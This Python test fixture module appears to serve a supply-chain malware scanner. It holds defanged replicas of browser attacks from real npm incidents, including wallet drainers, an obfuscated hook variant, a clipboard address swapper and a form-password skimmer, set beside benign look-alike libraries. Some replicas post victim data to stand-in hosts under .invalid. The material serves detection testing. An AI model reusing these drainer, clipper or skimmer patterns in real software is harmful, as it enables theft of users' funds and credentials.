"""Browser-side attacks: wallet drainers, address rewriters, clippers and form grabbers shipped in front-end
packages, and the polyfills, instrumentation and wallet libraries that look like them.

Defanged: every wallet address here is made up (valid in shape only, built by the helpers below from
obvious filler such as `dEaD`), every host is under `.invalid`, and no payload is complete enough to work.
"""

from __future__ import annotations

from tests.incidents.replica import Replica

_B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"


def _eth(n: int) -> str:
    """A made-up Ethereum-shaped address: zeros, then `dEaD` and a counter."""
    return "0x" + "0" * 32 + f"dEaD{n:04x}"


def _b58(prefix: str, length: int, n: int) -> str:
    """A made-up base58 string of `length` starting with `prefix` (filler `Fake`/`Defang` text and digits)."""
    body = prefix + "FakeDefangedZz" + str(n) * 3 + "xYq98765432"
    body = (body * 3)[:length]
    assert all(c in _B58 for c in body), body
    return body


def _bech32(prefix: str, n: int) -> str:
    return prefix + "qdefangedqqqqqqqqqqqqqqqqqqqqqqqqqqqq" + "x" * n


ETH = [_eth(i) for i in range(1, 7)]
BTC = [_b58("1", 34, i) for i in range(1, 4)]
SEGWIT = [_bech32("bc1", i) for i in range(1, 3)]
SOL = [_b58("F", 44, i) for i in range(1, 4)]
TRX = [_b58("T", 34, i) for i in range(1, 4)]


def _js_list(values: list[str]) -> str:
    return "[" + ", ".join(f"'{v}'" for v in values) + "]"


_CHALK_STYLING = (
    "'use strict';\n"
    "const styles = { red: [31, 39], green: [32, 39], bold: [1, 22] };\n"
    "function chalk(text) { return text; }\n"
    "for (const name of Object.keys(styles)) { chalk[name] = (t) => `\\u001B[${styles[name][0]}m${t}`; }\n"
    "module.exports = chalk;\n"
)

# chalk/debug/ansi-styles, Sept 8 2025 (https://github.com/debug-js/debug/issues/1005): appended to index.js,
# in a browser it wrapped fetch, XMLHttpRequest and window.ethereum, and swapped the addresses it found
# for the closest (Levenshtein) of its own lists. Plain (deobfuscated) shape.
_CHALK_DRAINER = (
    _CHALK_STYLING
    + "var neth = 0, rund = 0;\n"
    + f"const ethList = {_js_list(ETH)};\n"
    + f"const btcList = {_js_list(BTC + SEGWIT)};\n"
    + f"const solList = {_js_list(SOL)};\n"
    + f"const trxList = {_js_list(TRX)};\n"
    + "const patterns = {\n"
    "  ethereum: /\\b0x[a-fA-F0-9]{40}\\b/g,\n"
    "  bitcoin: /\\b1[a-km-zA-HJ-NP-Z1-9]{25,34}\\b/g,\n"
    "  solana: /[1-9A-HJ-NP-Za-km-z]{32,44}/g,\n"
    "  tron: /T[1-9A-HJ-NP-Za-km-z]{33}/g,\n"
    "};\n"
    "function levenshtein(a, b) {\n"
    "  const d = [];\n"
    "  for (let i = 0; i <= a.length; i++) { d[i] = [i]; }\n"
    "  for (let j = 0; j <= b.length; j++) { d[0][j] = j; }\n"
    "  for (let i = 1; i <= a.length; i++) for (let j = 1; j <= b.length; j++)\n"
    "    d[i][j] = Math.min(d[i-1][j] + 1, d[i][j-1] + 1, d[i-1][j-1] + (a[i-1] === b[j-1] ? 0 : 1));\n"
    "  return d[a.length][b.length];\n"
    "}\n"
    "function closest(addr, list) {\n"
    "  return list.reduce((best, c) => (levenshtein(addr, c) < levenshtein(addr, best) ? c : best));\n"
    "}\n"
    "function rewrite(text) {\n"
    "  return text.replace(patterns.ethereum, (m) => closest(m, ethList))\n"
    "    .replace(patterns.solana, (m) => closest(m, solList));\n"
    "}\n"
    "function newdlocal() {\n"
    "  const originalFetch = fetch;\n"
    "  fetch = async function (...args) {\n"
    "    const response = await originalFetch(...args);\n"
    "    const body = await response.clone().text();\n"
    "    return new Response(rewrite(body), response);\n"
    "  };\n"
    "  const originalOpen = XMLHttpRequest.prototype.open;\n"
    "  XMLHttpRequest.prototype.open = function (method, url) {\n"
    "    this._url = url;\n"
    "    return originalOpen.apply(this, arguments);\n"
    "  };\n"
    "}\n"
    "function runmask() {\n"
    "  const provider = window.ethereum;\n"
    "  const originalRequest = provider.request;\n"
    "  provider.request = async function (payload) {\n"
    "    if (payload.method === 'eth_sendTransaction') {\n"
    "      payload.params[0].to = closest(payload.params[0].to, ethList);\n"
    "    }\n"
    "    return originalRequest.call(this, payload);\n"
    "  };\n"
    "}\n"
    "if (typeof window !== 'undefined' && typeof window.ethereum !== 'undefined') {\n"
    "  window.ethereum.request({ method: 'eth_accounts' }).then(() => { runmask(); newdlocal(); });\n"
    "} else if (typeof window !== 'undefined') { rund = 1; newdlocal(); }\n"
)


def _obfuscated_chalk() -> str:
    """The same hooks in javascript-obfuscator's shape: a rotated string array, `_0x` names, bracket access.
    The string array holds the attacker's addresses in the clear (they were grepped as IOCs)."""
    strings = ["prototype", "open", "send", "apply", "clone", "text", "ethereum", "request", *ETH[:4]]
    table = ",".join(f"'{s}'" for s in strings)
    names = [f"_0x{0x1A2B + 7 * i:04x}" for i in range(24)]
    body = [
        f"function {names[0]}(){{const {names[1]}=[{table}];{names[0]}=function(){{return {names[1]};}};"
        f"return {names[0]}();}}",
        f"function {names[2]}({names[3]},{names[4]}){{const {names[5]}={names[0]}();"
        f"return {names[5]}[{names[3]}-0x0];}}",
        f"(function({names[6]},{names[7]}){{const {names[8]}={names[6]}();while(!![]){{try{{"
        f"{names[8]}['push']({names[8]}['shift']());break;}}catch({names[9]}){{break;}}}}}}({names[0]},0x1));",
        f"const {names[10]}={names[2]},{names[11]}=fetch;",
        f"fetch=async function(...{names[12]}){{const {names[13]}=await {names[11]}(...{names[12]});"
        f"const {names[14]}=await {names[13]}[{names[10]}(0x4)]()[{names[10]}(0x5)]();"
        f"return new Response({names[14]},{names[13]});}};",
        f"const {names[15]}=XMLHttpRequest[{names[10]}(0x0)][{names[10]}(0x1)];",
        f"XMLHttpRequest[{names[10]}(0x0)][{names[10]}(0x1)]=function({names[16]},{names[17]}){{"
        f"this['_u']={names[17]};return {names[15]}[{names[10]}(0x3)](this,arguments);}};",
        f"var {names[18]}={names[19]}=>{names[20]}=>{names[21]}=>{names[22]}=>{names[23]};",
    ]
    return _CHALK_STYLING + "\n".join(body) + "\n"


# @lottiefiles/lottie-player 2.0.5–2.0.7, Oct 2024 (https://github.com/LottieFiles/lottie-player/issues/254):
# the bundle shown on many web3 sites prompted for a wallet connection, reported the victim to the
# operator and asked for a transfer to the attacker.
_LOTTIE_DRAINER = (
    "class LottiePlayer { load(src) { this.src = src; } }\n"
    "customElements.define('lottie-player', LottiePlayer);\n"
    "async function connect() {\n"
    "  if (!window.ethereum) return;\n"
    "  const [account] = await window.ethereum.request({ method: 'eth_requestAccounts' });\n"
    "  await fetch('https://drain-panel.invalid/api/v1/victim', {\n"
    "    method: 'POST', headers: { 'content-type': 'application/json' },\n"
    "    body: JSON.stringify({ account, site: location.host }),\n"
    "  });\n"
    "  await window.ethereum.request({ method: 'eth_sendTransaction', params: [{\n"
    f"    from: account, to: '{ETH[0]}', value: '0xde0b6b3a7640000' }}] }});\n"
    "}\n"
    "setTimeout(connect, 3000);\n"
    "module.exports = LottiePlayer;\n"
)

# Ledger connect-kit 1.1.5–1.1.7, Dec 2023 (Ledger's incident report): the loader shipped a drainer that
# showed a fake connect modal, reported the wallet to the operator and asked for unlimited token approvals
# to the attacker's spender.
_LEDGER_DRAINER = (
    f"const SPENDER = '{ETH[2]}';\n"
    "const MAX = 'f'.repeat(64);\n"
    "export async function loadConnectKit() {\n"
    "  const provider = window.ethereum;\n"
    "  const accounts = await provider.request({ method: 'eth_requestAccounts' });\n"
    "  await fetch('https://kit-cdn.invalid/report', { method: 'POST', body: JSON.stringify(accounts) });\n"
    "  for (const token of await tokensOf(accounts[0])) {\n"
    "    await provider.request({ method: 'eth_sendTransaction', params: [{ from: accounts[0], to: token,\n"
    "      data: '0x095ea7b3' + SPENDER.slice(2).padStart(64, '0') + MAX }] });\n"
    "  }\n"
    "}\n"
    "async function tokensOf(owner) { return []; }\n"
    "loadConnectKit();\n"
)

# Clippers published to npm (e.g. the 2023–2024 packages reported by Phylum/Sonatype, and the browser
# half of the chalk payload): poll or intercept the clipboard, swap an address for the attacker's.
_CLIPPER = (
    f"const mine = {{ eth: '{ETH[1]}', btc: '{BTC[0]}', trx: '{TRX[0]}' }};\n"
    "const eth = /^0x[a-fA-F0-9]{40}$/;\n"
    "document.addEventListener('copy', (event) => {\n"
    "  const copied = String(window.getSelection());\n"
    "  if (eth.test(copied.trim())) {\n"
    "    event.clipboardData.setData('text/plain', mine.eth);\n"
    "    event.preventDefault();\n"
    "  }\n"
    "});\n"
    "setInterval(async () => {\n"
    "  const text = await navigator.clipboard.readText();\n"
    "  if (eth.test(text.trim())) await navigator.clipboard.writeText(mine.eth);\n"
    "}, 500);\n"
)

# Magecart-style skimmers injected into front-end packages: every form, password fields, posted out.
_FORM_GRABBER = (
    "function grab() {\n"
    "  const fields = document.querySelectorAll('input[type=password], input[name=email]');\n"
    "  const data = {};\n"
    "  fields.forEach((f) => { data[f.name] = f.value; });\n"
    "  navigator.sendBeacon('https://collect.skimmer.invalid/c', JSON.stringify(data));\n"
    "}\n"
    "document.addEventListener('submit', grab, true);\n"
    "module.exports = {};\n"
)

INCIDENTS: list[Replica] = [
    Replica(
        "chalk-debug-wallet-drainer",
        {"index.js": _CHALK_DRAINER},
        "block",
        frozenset({"browser-wallet-hijack"}),
        name="chalk",
        note="chalk 5.6.1 / debug 4.4.2, Sept 2025; deobfuscated shape, addresses made up",
    ),
    Replica(
        "chalk-debug-obfuscated-hooks",
        {"index.js": _obfuscated_chalk()},
        "block",
        frozenset({"browser-hook-obfuscated", "browser-wallet-hijack"}),
        name="debug",
        note="the published payload was javascript-obfuscator output with its address lists in the string array",
    ),
    Replica(
        "duckdb-wallet-drainer-dist",
        {
            "dist/duckdb-browser.js": _CHALK_DRAINER,
            "index.js": "module.exports = require('./dist/duckdb-browser.js');\n",
        },
        "block",
        frozenset({"browser-wallet-hijack"}),
        name="@duckdb/duckdb-wasm",
        note="@duckdb/* 1.3.3 / 1.29.2, Sept 2025: the same payload in the browser bundle",
    ),
    Replica(
        "lottie-player-wallet-drainer",
        {"index.js": _LOTTIE_DRAINER},
        "block",
        frozenset({"browser-wallet-drainer"}),
        name="@lottiefiles/lottie-player",
        note="2.0.5–2.0.7, Oct 2024; host and address made up",
    ),
    Replica(
        "ledger-connect-kit-approval-drainer",
        {"lib/index.js": _LEDGER_DRAINER},
        "block",
        frozenset({"browser-wallet-drainer"}),
        manifest={"main": "lib/index.js", "type": "module"},
        name="@ledgerhq/connect-kit",
        note="1.1.5–1.1.7, Dec 2023; approvals to a hard-coded spender, host and address made up",
    ),
    Replica(
        "clipboard-address-swapper",
        {"index.js": _CLIPPER},
        "block",
        frozenset({"browser-clipboard-hijack"}),
        note="clipper shape: copy listener and clipboard polling, address from a hard-coded table",
    ),
    Replica(
        "form-password-grabber",
        {"index.js": _FORM_GRABBER},
        "review",
        frozenset({"browser-form-grabber"}),
        note="skimmer shape; readable, so a human confirms (obfuscated, it would be a block)",
    ),
]

# ---- look-alikes ----------------------------------------------------------------------------------

# whatwg-fetch: defines fetch where the browser lacks it.
_FETCH_POLYFILL = (
    "export function Headers(init) { this.map = {}; }\n"
    "export function Response(body, options) { this.body = body; this.status = options.status; }\n"
    "export function fetch(input, init) {\n"
    "  return new Promise(function (resolve, reject) {\n"
    "    var xhr = new XMLHttpRequest();\n"
    "    xhr.onload = function () { resolve(new Response(xhr.responseText, { status: xhr.status })); };\n"
    "    xhr.open(init.method || 'GET', input, true);\n"
    "    xhr.send(init.body);\n"
    "  });\n"
    "}\n"
    "fetch.polyfill = true;\n"
    "if (!self.fetch) {\n"
    "  self.fetch = fetch;\n"
    "  self.Headers = Headers;\n"
    "  self.Response = Response;\n"
    "}\n"
)

# zone.js: patches XHR methods to track tasks (here with direct assignment, the worst case for the rule).
_ZONE_XHR = (
    "const proto = XMLHttpRequest.prototype;\n"
    "const originalSend = XMLHttpRequest.prototype.send;\n"
    "XMLHttpRequest.prototype.send = function (...args) {\n"
    "  const task = Zone.current.scheduleMacroTask('XMLHttpRequest.send', () => {}, {}, () => {});\n"
    "  this.__zone_task = task;\n"
    "  return originalSend.apply(this, args);\n"
    "};\n"
    "module.exports = { proto };\n"
)

# Sentry/Datadog-style instrumentation: wraps fetch and XHR to record breadcrumbs, posts to its DSN.
_SENTRY = (
    "const breadcrumbs = [];\n"
    "const originalFetch = window.fetch;\n"
    "window.fetch = function (...args) {\n"
    "  const started = Date.now();\n"
    "  return originalFetch.apply(window, args).then((response) => {\n"
    "    breadcrumbs.push({ url: String(args[0]), status: response.status, ms: Date.now() - started });\n"
    "    return response;\n"
    "  });\n"
    "};\n"
    "const originalOpen = XMLHttpRequest.prototype.open;\n"
    "XMLHttpRequest.prototype.open = function (method, url) {\n"
    "  this.__sentry_url = url;\n"
    "  return originalOpen.apply(this, arguments);\n"
    "};\n"
    "const id = /^[0-9a-f]{32}$/;\n"
    "export function flush(dsn) {\n"
    "  return originalFetch(dsn, { method: 'POST', body: JSON.stringify(breadcrumbs) });\n"
    "}\n"
)

# ethers/web3/wagmi-style connector: asks the wallet for accounts and sends what its caller built.
_WALLET_CONNECTOR = (
    "const ADDRESS = /^0x[a-fA-F0-9]{40}$/;\n"
    "export const MULTICALL3 = '0xcA11bde05977b3631167028862bE2a173976CA11';\n"
    "export async function connect() {\n"
    "  if (!window.ethereum) throw new Error('no wallet');\n"
    "  const [account] = await window.ethereum.request({ method: 'eth_requestAccounts' });\n"
    "  return account;\n"
    "}\n"
    "export async function sendTransaction(tx) {\n"
    "  if (!ADDRESS.test(tx.to)) throw new Error('bad address');\n"
    "  return window.ethereum.request({ method: 'eth_sendTransaction', params: [tx] });\n"
    "}\n"
    "export async function rpc(url, method, params) {\n"
    "  const res = await fetch(url, { method: 'POST', body: JSON.stringify({ id: 1, method, params }) });\n"
    "  return (await res.json()).result;\n"
    "}\n"
    "window.addEventListener('eip6963:announceProvider', (event) => { providers.push(event.detail); });\n"
    "const providers = [];\n"
)

# copy-to-clipboard: writes what it is given; a "copy address" button passes the user's own.
_COPY_HELPER = (
    "export async function copy(text) {\n"
    "  if (navigator.clipboard) return navigator.clipboard.writeText(text);\n"
    "  const area = document.createElement('textarea');\n"
    "  area.value = text;\n"
    "  document.body.appendChild(area);\n"
    "  area.select();\n"
    "  document.execCommand('copy');\n"
    "  area.remove();\n"
    "}\n"
    "document.addEventListener('copy', () => { window.__lastCopy = Date.now(); });\n"
    f"export const DONATE = '{ETH[5]}';\n"
)

# Form validation: listens to submit page-wide, checks password strength, posts nothing.
_FORM_VALIDATION = (
    "function validate(form) {\n"
    "  for (const input of form.querySelectorAll('input[type=password]')) {\n"
    "    if (input.value.length < 8) { input.setCustomValidity('too short'); return false; }\n"
    "  }\n"
    "  return true;\n"
    "}\n"
    "document.addEventListener('submit', (event) => { if (!validate(event.target)) event.preventDefault(); });\n"
    "module.exports = { validate };\n"
)

# Checksum/hash helpers carry 40-hex constants (SHA-1 test vectors) and no hooks.
_CHECKSUMS = (
    "const VECTORS = [\n"
    "  '0xa9993e364706816aba3e25717850c26c9cd0d89d',\n"
    "  '0x84983e441c3bd26ebaae4aa1f95129e5e54670f1',\n"
    "  '0x34aa973cd4c4daa4f61eeb2bdbad27316534016f',\n"
    "];\n"
    "function toChecksumAddress(address) { return address.toLowerCase(); }\n"
    "module.exports = { VECTORS, toChecksumAddress };\n"
)

# A dApp SDK bundle: the whatwg-fetch polyfill defines fetch, a stablecoin list sits beside it.
_DAPP_BUNDLE = (
    _FETCH_POLYFILL.replace("export ", "")
    + f"const STABLECOINS = ['{ETH[0]}', '{ETH[1]}', '{ETH[2]}', '{ETH[3]}'];\n"
    + "module.exports = { STABLECOINS };\n"
)

BENIGN: list[Replica] = [
    Replica("whatwg-fetch-polyfill", {"index.js": _FETCH_POLYFILL}, "allow", frozenset()),
    Replica("zone-xhr-patch", {"index.js": _ZONE_XHR}, "allow", frozenset({"browser-api-hook"})),
    Replica("sentry-fetch-breadcrumbs", {"index.js": _SENTRY}, "allow", frozenset({"browser-api-hook"})),
    Replica("ethereum-wallet-connector", {"index.js": _WALLET_CONNECTOR}, "allow", frozenset()),
    Replica("copy-to-clipboard-helper", {"index.js": _COPY_HELPER}, "allow", frozenset()),
    Replica("form-validation-submit", {"index.js": _FORM_VALIDATION}, "allow", frozenset()),
    Replica("dapp-bundle-fetch-polyfill-token-list", {"index.js": _DAPP_BUNDLE}, "allow", frozenset()),
    Replica(
        "checksum-hex40-constants",
        {"index.js": _CHECKSUMS},
        "allow",
        frozenset(),
        note="40-hex constants in a list are hashes, not addresses, when nothing hooks a network API",
    ),
]

LOOKALIKES: dict[str, tuple[str, ...]] = {
    "browser-wallet-hijack": (
        "sentry-fetch-breadcrumbs",
        "ethereum-wallet-connector",
        "zone-xhr-patch",
        "dapp-bundle-fetch-polyfill-token-list",
    ),
    "browser-hook-obfuscated": ("whatwg-fetch-polyfill", "sentry-fetch-breadcrumbs"),
    "browser-wallet-drainer": ("ethereum-wallet-connector",),
    "browser-clipboard-hijack": ("copy-to-clipboard-helper",),
    "browser-form-grabber": ("form-validation-submit",),
    "browser-api-hook": ("ethereum-wallet-connector", "copy-to-clipboard-helper"),
}
